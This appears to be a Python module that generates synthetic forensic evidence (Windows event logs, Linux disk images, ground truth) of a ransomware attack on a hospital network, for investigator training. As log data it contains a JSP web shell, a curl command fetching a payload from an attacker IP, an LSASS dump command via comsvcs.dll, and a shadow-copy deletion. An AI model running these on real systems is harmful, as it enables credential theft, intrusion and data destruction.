"""The sample case: a hospital network hit by ransomware on Wednesday 2022-11-23 from 07:00 IST.

:func:`build` writes, deterministically for a seed, the evidence an investigator would
receive — with no download and no root:

* ``DC01/`` and ``FS01/`` (and ``WSnn/`` for ``hosts`` > 4): KAPE-style triage folders of the
  Windows domain controller, file server and workstations, holding real EVTX files written by
  :mod:`collectors.evtx_writer` under ``C/Windows/System32/winevt/Logs/``;
* ``ehosp-app01.raw`` and ``ehosp-db01.raw``: raw ext4 disk images of the Linux e-hospital
  application and database servers, built with ``mke2fs -d`` (zone Asia/Kolkata, year-less
  ``auth.log``/``syslog`` rotated and gzipped, nginx access logs, ``wtmp``, bash history, cron,
  and on the database server a tree of patient-record files with their modification times);
* ``ground_truth.json``: every attack step with its host, UTC time, ATT&CK technique(s) and
  the artifact that records it.

The attack, embedded in ``days`` of background activity (staff logons, backups, cron, web
traffic) on every host: SSH brute force of the exposed application server, a web shell
uploaded through the Tomcat manager, sudo to a root shell, RDP to the domain controller
with a service account's password, an LSASS dump there, PsExec-style services on the file
server, the Security and System logs cleared, shadow copies deleted, then mass encryption
of the patient records on the file server and the database server.
"""

from __future__ import annotations

import datetime as _dt
import gzip
import hashlib
import json
import os
import random
import shutil
import struct
import subprocess
import uuid
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from timeline.errors import ForensicsError

__all__ = ["build", "Step", "ATTACK_DAY", "SEIZED"]

IST = ZoneInfo("Asia/Kolkata")
UTC = _dt.timezone.utc
ATTACK_DAY = _dt.date(2022, 11, 23)  # a Wednesday
SEIZED = _dt.datetime(2022, 11, 23, 12, 0, tzinfo=IST)  # when the evidence was taken
DOMAIN = "HOSP"
ATTACKER = "198.51.100.23"
APP_IP, DB_IP, DC_IP, FS_IP, BACKUP_IP, ADMIN_WS = "10.10.1.31", "10.10.1.32", "10.10.1.10", "10.10.1.20", "10.10.1.50", "10.10.2.5"
DC, FS = "DC01.hosp.local", "FS01.hosp.local"
APP, DB = "ehosp-app01", "ehosp-db01"
DEPTS = ("cardiology", "oncology", "radiology", "pediatrics", "orthopedics", "neurology", "emergency", "pathology")
STAFF = ("dr.mehta", "dr.sen", "nurse.anita", "nurse.ravi", "lab.kiran", "pharm.joseph", "admin.priya", "dr.bose",
         "nurse.farah", "dr.iyer")


class SampleError(ForensicsError):
    exit_code = 1


@dataclass
class Step:
    """One attack step as the ground truth states it."""

    step: int
    host: str
    time_utc: str
    techniques: list[str]
    artifact: str
    what: str


def ist(h: int, m: int, s: int = 0, day: _dt.date = ATTACK_DAY, us: int = 0) -> _dt.datetime:
    return _dt.datetime(day.year, day.month, day.day, h, m, s, us, tzinfo=IST).astimezone(UTC)


# ---------------------------------------------------------------------------------------------
# Windows events
# ---------------------------------------------------------------------------------------------

SEC, SYS = "Security", "System"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
TS_RCM = "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational"
TS_LOCAL = "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational"
_PROV = {SEC: "Microsoft-Windows-Security-Auditing", SYS: "Service Control Manager", SYSMON: "Microsoft-Windows-Sysmon",
         TS_RCM: "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
         TS_LOCAL: "Microsoft-Windows-TerminalServices-LocalSessionManager"}
_FILES = {SEC: "Security.evtx", SYS: "System.evtx", SYSMON: "Microsoft-Windows-Sysmon%4Operational.evtx",
          TS_RCM: "Microsoft-Windows-TerminalServices-RemoteConnectionManager%4Operational.evtx",
          TS_LOCAL: "Microsoft-Windows-TerminalServices-LocalSessionManager%4Operational.evtx"}


class WinHost:
    """The events of one Windows host, per channel, written as EVTX at the end."""

    def __init__(self, computer: str, rng: random.Random):
        self.computer = computer
        self.rng = rng
        self.events: dict[str, list[dict[str, Any]]] = {c: [] for c in _FILES}
        self.cleared: dict[str, _dt.datetime] = {}  # channel -> when it was cleared (earlier records are gone)
        self._logon_id = 0x3E7000

    def add(self, channel: str, eid: int, t: _dt.datetime, data: dict[str, Any] | None = None,
            user_data: tuple[str, dict[str, Any]] | None = None, provider: str | None = None, level: int = 4,
            pid: int = 4, tid: int = 0) -> None:
        ev = {"event_id": eid, "time": t, "provider": provider or _PROV[channel], "channel": channel,
              "computer": self.computer, "level": level, "process_id": pid, "thread_id": tid or self.rng.randint(100, 9000)}
        if data is not None:
            ev["event_data"] = data
        if user_data is not None:
            from collectors.evtx_writer import UserData

            ev["user_data"] = UserData(user_data[0], user_data[1])
        self.events[channel].append(ev)

    def logon_id(self) -> str:
        self._logon_id += self.rng.randint(0x100, 0x5000)
        return f"0x{self._logon_id:x}"

    def logon(self, t, user, ltype, ip, ws="-", domain=DOMAIN, ok=True, package="Kerberos"):
        common = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": self.computer.split(".")[0] + "$",
                  "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x3e7", "TargetUserName": user,
                  "TargetDomainName": domain}
        if ok:
            lid = self.logon_id()
            self.add(SEC, 4624, t, {**common, "TargetUserSid": _sid(user), "TargetLogonId": lid, "LogonType": ltype,
                                    "LogonProcessName": "User32 " if ltype == 10 else "Kerberos",
                                    "AuthenticationPackageName": "Negotiate" if ltype == 10 else package,
                                    "WorkstationName": ws, "IpAddress": ip, "IpPort": str(self.rng.randint(49152, 65000))})
            return lid
        self.add(SEC, 4625, t, {**common, "Status": ("hex32", 0xC000006D), "SubStatus": ("hex32", 0xC000006A),
                                "LogonType": ltype, "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
                                "WorkstationName": ws, "IpAddress": ip, "IpPort": "0"})
        return None

    def logoff(self, t, user, lid, ltype):
        self.add(SEC, 4634, t, {"TargetUserSid": _sid(user), "TargetUserName": user, "TargetDomainName": DOMAIN,
                                "TargetLogonId": lid, "LogonType": ltype})

    def process(self, t, user, image, cmd, parent="C:\\Windows\\System32\\cmd.exe", pid=None):
        pid = pid or self.rng.randint(1000, 9000)
        self.add(SEC, 4688, t, {"SubjectUserSid": _sid(user), "SubjectUserName": user, "SubjectDomainName": DOMAIN,
                                "SubjectLogonId": "0x3e7", "NewProcessId": ("hex32", pid), "NewProcessName": image,
                                "TokenElevationType": "%%1936", "ProcessId": ("hex32", 0x1f0), "CommandLine": cmd,
                                "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
                                "TargetLogonId": "0x0", "ParentProcessName": parent, "MandatoryLabel": "S-1-16-12288"})
        self.add(SYSMON, 1, t + _dt.timedelta(milliseconds=3), {
            "RuleName": "-", "UtcTime": _utc_text(t), "ProcessGuid": str(_uuid(self.rng)), "ProcessId": pid,
            "Image": image, "FileVersion": "-", "Description": "-", "Product": "-", "Company": "-",
            "OriginalFileName": image.rsplit("\\", 1)[-1], "CommandLine": cmd, "CurrentDirectory": "C:\\Windows\\system32\\",
            "User": f"{DOMAIN}\\{user}", "LogonGuid": str(_uuid(self.rng)), "LogonId": ("hex64", 0x3E7),
            "TerminalSessionId": 0, "IntegrityLevel": "High", "Hashes": "SHA256=" + hashlib.sha256(image.encode()).hexdigest().upper(),
            "ParentProcessGuid": str(_uuid(self.rng)), "ParentProcessId": 4321, "ParentImage": parent,
            "ParentCommandLine": parent, "ParentUser": f"{DOMAIN}\\{user}"}, pid=2044)

    def service_state(self, t, name, state):
        self.add(SYS, 7036, t, {"param1": name, "param2": state, "binary": b""}, pid=600)

    def write(self, root: Path) -> list[Path]:
        from collectors.evtx_writer import write_evtx

        logs = root / "C" / "Windows" / "System32" / "winevt" / "Logs"
        logs.mkdir(parents=True, exist_ok=True)
        out = []
        for channel, events in self.events.items():
            if not events:
                continue
            events.sort(key=lambda e: e["time"])
            if channel in self.cleared:
                events = [e for e in events if e["time"] >= self.cleared[channel]]
            path = logs / _FILES[channel]
            write_evtx(path, events)
            os.utime(path, ns=(_ns(SEIZED), _ns(events[-1]["time"])))
            out.append(path)
        return out


def _sid(user: str) -> str:
    return f"S-1-5-21-3623811015-3361044348-30300820-{1000 + int(hashlib.sha256(user.encode()).hexdigest()[:4], 16) % 8000}"


def _uuid(rng: random.Random) -> uuid.UUID:
    return uuid.UUID(int=rng.getrandbits(128), version=4)


def _utc_text(t: _dt.datetime) -> str:
    return t.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]


def _ns(t: _dt.datetime) -> int:
    d = t - _dt.datetime(1970, 1, 1, tzinfo=UTC)
    return (d.days * 86400 + d.seconds) * 1_000_000_000 + d.microseconds * 1000


def _days(days: int) -> list[_dt.date]:
    return [ATTACK_DAY - _dt.timedelta(days=d) for d in range(days - 1, -1, -1)]


def _windows_background(h: WinHost, rng: random.Random, days: list[_dt.date], is_dc: bool, staff_per_hour: int) -> None:
    for day in days:
        last_hour = 12 if day == ATTACK_DAY else 23
        for hour in range(0, last_hour):
            for _ in range(staff_per_hour if 8 <= hour <= 20 else 1):
                user = rng.choice(STAFF)
                t = ist(hour, rng.randint(0, 59), rng.randint(0, 59), day, rng.randint(0, 999999))
                if day == ATTACK_DAY and t >= ist(8, 40):
                    continue  # the morning of the attack: the log was cleared at 08:41 on the DC
                ws = f"10.10.2.{10 + STAFF.index(user)}"
                lid = h.logon(t, user, 3, ws, ws=f"WS{10 + STAFF.index(user):02d}")
                h.logoff(t + _dt.timedelta(seconds=rng.randint(5, 900)), user, lid, 3)
                if is_dc:
                    h.add(SEC, 4769, t - _dt.timedelta(milliseconds=40), {
                        "TargetUserName": f"{user}@HOSP.LOCAL", "TargetDomainName": "HOSP.LOCAL",
                        "ServiceName": "FS01$", "ServiceSid": _sid("FS01$"), "TicketOptions": ("hex32", 0x40810000),
                        "TicketEncryptionType": ("hex32", 0x12), "IpAddress": f"::ffff:{ws}", "IpPort": "50000",
                        "Status": ("hex32", 0), "LogonGuid": str(_uuid(rng)), "TransmittedServices": "-"})
        # the nightly backup at 01:00
        t = ist(1, 0, rng.randint(0, 30), day)
        lid = h.logon(t, "svc-backup", 3, BACKUP_IP, ws="BACKUP01")
        h.process(t + _dt.timedelta(seconds=2), "svc-backup", "C:\\Program Files\\Veeam\\Agent\\VeeamAgent.exe",
                  "\"C:\\Program Files\\Veeam\\Agent\\VeeamAgent.exe\" -job nightly",
                  parent="C:\\Windows\\System32\\services.exe")
        h.logoff(t + _dt.timedelta(minutes=42), "svc-backup", lid, 3)
        for hour in (3, 15):
            t = ist(hour, 5, 0, day)
            if day == ATTACK_DAY and t >= ist(8, 40):
                continue
            h.service_state(t, "Windows Update", "running")
            h.service_state(t + _dt.timedelta(minutes=7), "Windows Update", "stopped")


# ---------------------------------------------------------------------------------------------
# Linux files
# ---------------------------------------------------------------------------------------------


class LinuxHost:
    """Files of one Linux server (a folder turned into an ext4 image at the end)."""

    def __init__(self, hostname: str, root: Path, rng: random.Random):
        self.hostname, self.root, self.rng = hostname, root, rng
        self.auth: list[tuple[_dt.datetime, str]] = []
        self.syslog: list[tuple[_dt.datetime, str]] = []
        self.access: list[tuple[_dt.datetime, str]] = []
        self.wtmp: list[bytes] = []
        self.files: list[tuple[str, bytes, _dt.datetime]] = []  # (path, content, mtime)
        self._pid = 1000

    def pid(self) -> int:
        self._pid += self.rng.randint(1, 40)
        return self._pid

    def log(self, where: list, t: _dt.datetime, prog: str, msg: str, pid: int | None = None) -> None:
        tag = f"{prog}[{pid if pid is not None else self.pid()}]" if prog not in ("kernel",) else prog
        where.append((t, f"{_bsd(t)} {self.hostname} {tag}: {msg}"))

    def ssh_ok(self, t, user, ip, method="publickey", port=None):
        pid = self.pid()
        port = port or self.rng.randint(40000, 60000)
        key = " ssh2: ED25519 SHA256:" + hashlib.sha256(user.encode()).hexdigest()[:43] if method == "publickey" else " ssh2"
        self.log(self.auth, t, "sshd", f"Accepted {method} for {user} from {ip} port {port}{key}", pid)
        self.log(self.auth, t, "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid={_uid(user)}) by (uid=0)", pid)
        self.wtmp.append(_utmp(7, pid, "pts/0", user, ip, t))
        return pid

    def ssh_close(self, t, user, ip, pid):
        self.log(self.auth, t, "sshd", f"pam_unix(sshd:session): session closed for user {user}", pid)
        self.wtmp.append(_utmp(8, pid, "pts/0", "", "", t))

    def cron(self, t, user, cmd):
        pid = self.pid()
        self.log(self.syslog, t, "CRON", f"({user}) CMD ({cmd})", pid)
        self.log(self.auth, t, "CRON", f"pam_unix(cron:session): session opened for user {user}(uid={_uid(user)}) by (uid=0)", pid)

    def write_logs(self, rotate_hour: int = 6, rotate_minute: int = 25) -> None:
        """auth.log, syslog (rotated daily at 06:25 IST: .1 plain, older gzipped), nginx access logs."""
        for name, lines in (("auth.log", self.auth), ("syslog", self.syslog), ("nginx/access.log", self.access)):
            if not lines:
                continue
            lines.sort(key=lambda x: x[0])
            by_file: dict[int, list[tuple[_dt.datetime, str]]] = {}
            for t, line in lines:
                local = t.astimezone(IST)
                boundary = _dt.datetime.combine(SEIZED.date(), _dt.time(rotate_hour, rotate_minute), IST)
                age = 0
                while local < boundary - _dt.timedelta(days=age):
                    age += 1
                by_file.setdefault(age, []).append((t, line))
            for age, chunk in by_file.items():
                text = "".join(line + "\n" for _, line in chunk).encode()
                path = f"/var/log/{name}" + ("" if age == 0 else f".{age}")
                end = SEIZED if age == 0 else _dt.datetime.combine(
                    SEIZED.date() - _dt.timedelta(days=age - 1), _dt.time(rotate_hour, rotate_minute), IST)
                if age >= 2:
                    text, path = gzip.compress(text, mtime=0), path + ".gz"
                self.files.append((path, text, min(end, SEIZED) if age else chunk[-1][0]))
        if self.wtmp:
            self.files.append(("/var/log/wtmp", b"".join(self.wtmp), SEIZED))

    def image(self, out: Path, mke2fs: str) -> Path:
        root = self.root
        for d in ("usr/bin", "opt", "root", "tmp", "etc/cron.d", "var/log/nginx"):
            (root / d).mkdir(parents=True, exist_ok=True)
        base = [("/etc/hostname", f"{self.hostname}\n".encode(), ist(9, 0, day=_dt.date(2021, 3, 2))),
                ("/etc/timezone", b"Asia/Kolkata\n", ist(9, 0, day=_dt.date(2021, 3, 2)))]
        for path, content, mtime in base + self.files:
            p = root / path.lstrip("/")
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_bytes(content)
            os.utime(p, ns=(_ns(mtime), _ns(mtime)))
        # folders carry the time of their newest entry (deterministic images: no time of the build leaks in)
        for d in sorted((p for p in root.rglob("*") if p.is_dir()), key=lambda p: -len(p.parts)) + [root]:
            newest = max((c.stat().st_mtime_ns for c in d.iterdir()), default=_ns(SEIZED))
            os.utime(d, ns=(newest, newest))
        size = sum(len(c) for _, c, _ in base + self.files)
        blocks_mb = max(16, size * 3 // (1 << 20) + 16)
        seed = uuid.UUID(hashlib.sha256(self.hostname.encode()).hexdigest()[:32])
        env = dict(os.environ, E2FSPROGS_FAKE_TIME=str(int(SEIZED.timestamp())))
        try:
            subprocess.run([mke2fs, "-q", "-F", "-t", "ext4", "-U", str(seed), "-E", f"hash_seed={seed}", "-d", str(root),
                            str(out), f"{blocks_mb}M"], check=True, env=env, capture_output=True)
        except subprocess.CalledProcessError as exc:
            raise SampleError(f"mke2fs failed for {out.name}: {exc.stderr.decode(errors='replace').strip()}") from exc
        # mke2fs copies each file's inode-change time from the build folder (the time of the build): set it, and
        # the birth time, to the file's modification time, so the image is the same bytes for the same seed
        debugfs = shutil.which("debugfs") or shutil.which("debugfs", path=os.path.dirname(mke2fs) + ":/usr/sbin:/sbin")
        if debugfs is None:
            raise SampleError("debugfs (Debian package e2fsprogs) is needed to build the Linux images")
        cmds = []
        for p in [root] + sorted(root.rglob("*")):
            rel = "/" + p.relative_to(root).as_posix() if p != root else "/"
            secs = p.stat().st_mtime_ns // 1_000_000_000
            cmds += [f'sif "{rel}" {f} {v}' for f, v in (("ctime", f"@{secs}"), ("ctime_extra", 0),
                                                          ("crtime", f"@{secs}"), ("crtime_extra", 0))]
        script = out.with_suffix(".debugfs")
        script.write_text("\n".join(cmds) + "\n")
        try:
            subprocess.run([debugfs, "-w", "-f", str(script), str(out)], check=True, env=env, capture_output=True)
        finally:
            script.unlink()
        os.chmod(out, 0o444)
        shutil.rmtree(root)
        return out


def _uid(user: str) -> int:
    return 0 if user == "root" else 1000 + int(hashlib.sha256(user.encode()).hexdigest()[:3], 16) % 500


def _bsd(t: _dt.datetime) -> str:
    local = t.astimezone(IST)
    return f"{local:%b} {local.day:2d} {local:%H:%M:%S}"


def _utmp(kind: int, pid: int, line: str, user: str, host: str, t: _dt.datetime) -> bytes:
    """A Linux x86_64 ``struct utmp`` (384 bytes)."""
    addr = bytes(int(x) for x in host.split(".")) + b"\0" * 12 if host.count(".") == 3 else b"\0" * 16
    return struct.pack("<hxxi32s4s32s256shhiii16s20s", kind, pid, line.encode(), line[-4:].encode(), user.encode(),
                       host.encode(), 0, 0, 0, int(t.timestamp()), t.microsecond, addr, b"")


def _access(t: _dt.datetime, ip: str, method: str, url: str, status: int, size: int, ua: str, ref: str = "-") -> tuple:
    local = t.astimezone(IST)
    return (t, f'{ip} - - [{local:%d/%b/%Y:%H:%M:%S} +0530] "{method} {url} HTTP/1.1" {status} {size} "{ref}" "{ua}"')


_BROWSERS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/107.0.0.0 Safari/537.36",
             "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:106.0) Gecko/20100101 Firefox/106.0",
             "Mozilla/5.0 (Linux; Android 12; SM-A525F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/107.0.0.0 Mobile Safari/537.36")
_PAGES = ("/ehospital/", "/ehospital/login.jsp", "/ehospital/opd/queue.jsp", "/ehospital/patient/search.jsp",
          "/ehospital/lab/results.jsp", "/ehospital/pharmacy/stock.jsp", "/ehospital/static/app.js",
          "/ehospital/static/style.css", "/ehospital/billing/invoice.jsp")


def _linux_background(h: LinuxHost, rng: random.Random, days: list[_dt.date], web: bool, hits_per_hour: int) -> None:
    end = SEIZED.astimezone(UTC)
    for day in days:
        for hour in range(24):
            for minute in range(0, 60, 10):
                t = ist(hour, minute, 1, day)
                if t < end:
                    h.cron(t, "root", "/usr/local/bin/healthcheck.sh >/dev/null 2>&1")
            if web:
                for _ in range(hits_per_hour if 8 <= hour <= 20 else hits_per_hour // 10):
                    t = ist(hour, rng.randint(0, 59), rng.randint(0, 59), day)
                    if t >= end:
                        continue
                    ip = f"10.20.{rng.randint(1, 12)}.{rng.randint(2, 250)}"
                    page = rng.choice(_PAGES)
                    method = "POST" if page.endswith("login.jsp") and rng.random() < 0.5 else "GET"
                    h.access.append(_access(t, ip, method, page, 200, rng.randint(300, 40000), rng.choice(_BROWSERS)))
        t = ist(2, 0, 5, day)
        pid = h.ssh_ok(t, "deploy", "10.10.1.5")
        h.ssh_close(t + _dt.timedelta(minutes=3), "deploy", "10.10.1.5", pid)
        h.cron(ist(1, 30, 0, day), "postgres", "pg_dump -Fc ehospital > /backup/ehospital.dump")


# ---------------------------------------------------------------------------------------------
# the attack
# ---------------------------------------------------------------------------------------------


def _attack(rng: random.Random, dc: WinHost, fs: WinHost, app: LinuxHost, db: LinuxHost) -> list[Step]:
    steps: list[Step] = []

    def step(host, t, techniques, artifact, what):
        steps.append(Step(len(steps) + 1, host, t.astimezone(UTC).isoformat(), techniques, artifact, what))

    # 1. SSH brute force of the exposed application server, 07:00 IST
    t = ist(7, 0, 3)
    users = ["root", "admin", "oracle", "test", "ehadmin", "postgres", "ubuntu", "user"]
    for i in range(240):
        u = users[i % len(users)]
        pid = app.pid()
        invalid = u not in ("root", "ehadmin", "postgres")
        ti = t + _dt.timedelta(seconds=i * 2.3)
        if invalid:
            app.log(app.auth, ti, "sshd", f"Invalid user {u} from {ATTACKER} port {rng.randint(30000, 60000)}", pid)
        app.log(app.auth, ti, "sshd", f"Failed password for {'invalid user ' if invalid else ''}{u} from {ATTACKER} "
                                      f"port {rng.randint(30000, 60000)} ssh2", pid)
    step(APP, t, ["T1110", "T1110.001"], "/var/log/auth.log (sshd)", "SSH password brute force from " + ATTACKER)
    t_ok = ist(7, 9, 41)
    app.ssh_ok(t_ok, "ehadmin", ATTACKER, method="password")

    # 2. web shell through the Tomcat manager, 07:18
    t = ist(7, 18, 12)
    app.access.append(_access(t, ATTACKER, "POST", "/manager/html/upload", 200, 8123, "Mozilla/5.0 (X11; Linux x86_64)"))
    app.files.append(("/var/lib/tomcat9/webapps/ehospital/uploads/cmd.jsp",
                      b'<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
                      t + _dt.timedelta(seconds=1)))
    for i, cmd in enumerate(("id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la%20/opt/ehospital/conf",
                             "cat%20/opt/ehospital/conf/ldap.properties")):
        app.access.append(_access(t + _dt.timedelta(seconds=40 + 20 * i), ATTACKER, "POST",
                                  f"/ehospital/uploads/cmd.jsp?cmd={cmd}", 200, rng.randint(40, 900),
                                  "Mozilla/5.0 (X11; Linux x86_64)"))
    step(APP, t, ["T1505.003", "T1105"], "/var/log/nginx/access.log", "web shell cmd.jsp uploaded via /manager/html/upload")

    # 3. privilege escalation: sudo to a root shell, 07:31
    t = ist(7, 31, 5)
    app.log(app.auth, t, "sudo", "  ehadmin : TTY=pts/1 ; PWD=/home/ehadmin ; USER=root ; COMMAND=/bin/bash")
    app.log(app.auth, t, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by ehadmin(uid=1042)")
    hist = [(ist(7, 31, 30), "cat /opt/ehospital/conf/ldap.properties"), (ist(7, 33, 2), "ssh-keyscan 10.10.1.10"),
            (ist(7, 40, 11), "curl -s http://198.51.100.23/x/lck -o /tmp/.x/lck"), (ist(7, 40, 30), "chmod +x /tmp/.x/lck")]
    app.files.append(("/root/.bash_history", "".join(f"#{int(ts.timestamp())}\n{c}\n" for ts, c in hist).encode(), hist[-1][0]))
    step(APP, t, ["T1548.003"], "/var/log/auth.log (sudo)", "sudo to a root shell by ehadmin")

    # 4. RDP to the domain controller with the service account's password (from ldap.properties), 07:52
    t = ist(7, 52, 14)
    dc.add(TS_RCM, 1149, t - _dt.timedelta(seconds=2),
           user_data=("EventXML", {"Param1": "svc-backup", "Param2": DOMAIN, "Param3": APP_IP}))
    lid = dc.logon(t, "svc-backup", 10, APP_IP, ws="EHOSP-APP01")
    dc.add(TS_LOCAL, 21, t + _dt.timedelta(seconds=1),
           user_data=("EventXML", {"User": f"{DOMAIN}\\svc-backup", "SessionID": 2, "Address": APP_IP}))
    dc.add(SEC, 4672, t, {"SubjectUserSid": _sid("svc-backup"), "SubjectUserName": "svc-backup",
                          "SubjectDomainName": DOMAIN, "SubjectLogonId": lid,
                          "PrivilegeList": "SeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeDebugPrivilege"})
    step(DC, t, ["T1021.001"], "TerminalServices 1149/21 on DC01 (the Security log was cleared later)",
         "RDP logon by HOSP\\svc-backup from " + APP_IP)

    # 5. LSASS dump with comsvcs.dll, 08:02
    t = ist(8, 2, 40)
    cmd = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\Windows\\Temp\\lsass.dmp full"
    dc.process(t, "svc-backup", "C:\\Windows\\System32\\rundll32.exe", cmd, parent="C:\\Windows\\System32\\cmd.exe", pid=5124)
    dc.add(SYSMON, 10, t + _dt.timedelta(milliseconds=120), {
        "RuleName": "-", "UtcTime": _utc_text(t), "SourceProcessGUID": str(_uuid(rng)), "SourceProcessId": 5124,
        "SourceThreadId": 5130, "SourceImage": "C:\\Windows\\System32\\rundll32.exe", "TargetProcessGUID": str(_uuid(rng)),
        "TargetProcessId": 688, "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1FFFFF",
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+1f2b5",
        "SourceUser": f"{DOMAIN}\\svc-backup", "TargetUser": "NT AUTHORITY\\SYSTEM"}, pid=2044)
    step(DC, t, ["T1003.001"], "Sysmon 10 and 1 on DC01", "LSASS memory dumped with comsvcs.dll MiniDump")

    # 6. PsExec-style services on the file server, 08:20
    t = ist(8, 20, 9)
    lid = fs.logon(t - _dt.timedelta(seconds=1), "Administrator", 3, DC_IP, ws="DC01", package="NTLM")
    fs.add(SYS, 7045, t, {"ServiceName": "BTOBTO", "ImagePath": "%SystemRoot%\\BTOBTO.exe", "ServiceType": "user mode service",
                          "StartType": "demand start", "AccountName": "LocalSystem"}, pid=644)
    fs.service_state(t + _dt.timedelta(seconds=1), "BTOBTO", "running")
    fs.process(t + _dt.timedelta(seconds=2), "Administrator", "C:\\Windows\\BTOBTO.exe", "C:\\Windows\\BTOBTO.exe",
               parent="C:\\Windows\\System32\\services.exe")
    step(FS, t, ["T1543.003", "T1569.002", "T1021.002"], "System.evtx 7045 on FS01", "PsExec-style service BTOBTO installed from DC01")

    # 7. logs cleared on the domain controller, 08:41
    t = ist(8, 41, 3)
    dc.add(SEC, 1102, t, user_data=("LogFileCleared", {"SubjectUserSid": _sid("svc-backup"), "SubjectUserName": "svc-backup",
                                                       "SubjectDomainName": DOMAIN, "SubjectLogonId": lid}),
           provider="Microsoft-Windows-Eventlog")
    dc.add(SYS, 104, t + _dt.timedelta(seconds=1),
           user_data=("LogFileCleared", {"SubjectUserName": "svc-backup", "SubjectDomainName": DOMAIN, "Channel": "System",
                                         "BackupPath": ""}), provider="Microsoft-Windows-Eventlog")
    dc.cleared[SEC], dc.cleared[SYS] = t, t + _dt.timedelta(seconds=1)
    step(DC, t, ["T1070.001"], "Security.evtx 1102, System.evtx 104", "Security and System logs cleared")

    # 8. shadow copies deleted on the file server, 08:55
    t = ist(8, 55, 30)
    fs.process(t, "Administrator", "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
               parent="C:\\Windows\\BTOBTO.exe")
    step(FS, t, ["T1490"], "Security 4688 / Sysmon 1 on FS01", "vssadmin delete shadows /all /quiet")

    # 9. mass encryption on the file server (Sysmon 11) and on the database server (its file system), 09:00
    t0 = ist(9, 0, 2)
    n = 0
    for dept in DEPTS:
        folder = f"D:\\Shares\\Records\\{dept}"
        fs.add(SYSMON, 11, t0 + _dt.timedelta(seconds=n * 0.4), _file_event(rng, folder + "\\HOW_TO_RESTORE.txt", t0))
        for k in range(80):
            n += 1
            fs.add(SYSMON, 11, t0 + _dt.timedelta(seconds=n * 0.4),
                   _file_event(rng, f"{folder}\\P{rng.randint(100000, 999999)}_{k:03d}.pdf.hlock", t0))
    step(FS, t0, ["T1486"], "Sysmon 11 on FS01", "patient records encrypted to .hlock, ransom notes HOW_TO_RESTORE.txt")
    t1 = ist(9, 3, 10)
    db.files = [(p, c, m) for p, c, m in db.files if not p.startswith("/srv/records/")]
    n = 0
    for dept in DEPTS:
        db.files.append((f"/srv/records/{dept}/HOW_TO_RESTORE.txt", RANSOM_NOTE, t1))
        for k in range(60):
            n += 1
            db.files.append((f"/srv/records/{dept}/P{rng.randint(100000, 999999)}_{k:03d}.pdf.hlock",
                             rng.randbytes(512), t1 + _dt.timedelta(seconds=n * 0.3)))
    step(DB, t1, ["T1486"], "ext4 file system of ehosp-db01 (/srv/records)", "patient records encrypted to .hlock")
    return steps


RANSOM_NOTE = (b"All patient records of this hospital are encrypted with HLOCK.\n"
               b"Do not rename the files. Contact recovery@example.invalid with your ID.\n")


def _file_event(rng: random.Random, target: str, t: _dt.datetime) -> dict[str, Any]:
    return {"RuleName": "-", "UtcTime": _utc_text(t), "ProcessGuid": "{5b8f0c2a-0000-0000-0000-000000000000}",
            "ProcessId": 6612, "Image": "C:\\Windows\\Temp\\svch0st.exe", "TargetFilename": target,
            "CreationUtcTime": _utc_text(t), "User": f"{DOMAIN}\\Administrator"}


def _records(db: LinuxHost, rng: random.Random, days: list[_dt.date]) -> None:
    """Patient-record files of the database server, written during the days before (later encrypted)."""
    for dept in DEPTS:
        for k in range(20):
            day = rng.choice(days[:-1] or days)
            db.files.append((f"/srv/records/{dept}/P{rng.randint(100000, 999999)}_{k:03d}.pdf", rng.randbytes(256),
                             ist(rng.randint(8, 19), rng.randint(0, 59), 0, day)))


# ---------------------------------------------------------------------------------------------


def build(directory: str | os.PathLike, hosts: int = 4, days: int = 3, seed: int = 7,
          mke2fs: str | None = None) -> dict[str, Any]:
    """Write the sample case's evidence into ``directory`` (created; must be empty or absent).

    ``hosts`` >= 4 (the DC, the file server, the two Linux servers, then Windows workstations);
    ``days`` of background before and including the attack day.  Returns a summary with the
    evidence paths and the ground truth."""
    if hosts < 4:
        raise SampleError("the sample case has at least 4 hosts (DC01, FS01, ehosp-app01, ehosp-db01)")
    if days < 1:
        raise SampleError("days must be at least 1")
    out = Path(directory)
    if out.exists() and any(out.iterdir()):
        raise SampleError(f"{out} is not empty")
    exe = mke2fs or shutil.which("mke2fs") or shutil.which("mke2fs", path="/usr/sbin:/sbin")
    if exe is None:
        raise SampleError("mke2fs is needed to build the Linux images (Debian package e2fsprogs)")
    out.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    span = _days(days)
    dc, fs = WinHost(DC, random.Random(rng.random())), WinHost(FS, random.Random(rng.random()))
    _windows_background(dc, random.Random(rng.random()), span, True, 40)
    _windows_background(fs, random.Random(rng.random()), span, False, 30)
    work = out / ".build"
    app = LinuxHost(APP, work / APP, random.Random(rng.random()))
    db = LinuxHost(DB, work / DB, random.Random(rng.random()))
    _linux_background(app, random.Random(rng.random()), span, True, 400)
    _linux_background(db, random.Random(rng.random()), span, False, 0)
    _records(db, random.Random(rng.random()), span)
    steps = _attack(random.Random(rng.random()), dc, fs, app, db)
    evidence = []
